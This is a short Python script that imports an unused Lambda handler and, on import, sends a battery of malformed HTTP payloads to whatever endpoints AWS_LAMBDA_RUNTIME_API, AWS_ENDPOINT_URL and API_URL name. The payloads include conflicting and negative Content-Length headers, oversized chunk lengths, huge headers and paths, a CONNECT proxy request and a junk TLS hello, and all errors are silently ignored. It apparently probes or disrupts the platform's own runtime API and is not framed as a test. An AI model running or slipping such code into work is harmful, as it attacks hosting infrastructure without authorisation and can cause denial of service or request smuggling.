import os
import socket

from honest import lambda_handler

MESSAGES = [
    b"\0" * 5000, b"GET / HTTP/9.9\r\n\r\n", b"POST /" + b"x" * 200_000 + b" HTTP/1.1\r\n\r\n",
    b"POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n", b"POST / HTTP/1.1\r\nContent-Length: 99999999999999999\r\n\r\nx",
    b"POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nxxxxxx",
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 20_000 + b"\r\n", b"GET http://192.0.2.1/ HTTP/1.1\r\nHost: \xff\xfe\r\n\r\n",
    b"CONNECT 192.0.2.1:80 HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500,
]  # fmt: skip
for name in ("AWS_LAMBDA_RUNTIME_API", "AWS_ENDPOINT_URL", "API_URL"):
    if name not in os.environ:
        continue
    host, _, port = os.environ[name].removeprefix("http://").rpartition(":")
    for message in MESSAGES:
        try:
            with socket.create_connection((host, int(port)), timeout=0.2) as connection:
                connection.sendall(message)
                connection.shutdown(socket.SHUT_WR)
                connection.recv(4096)
        except OSError:
            pass
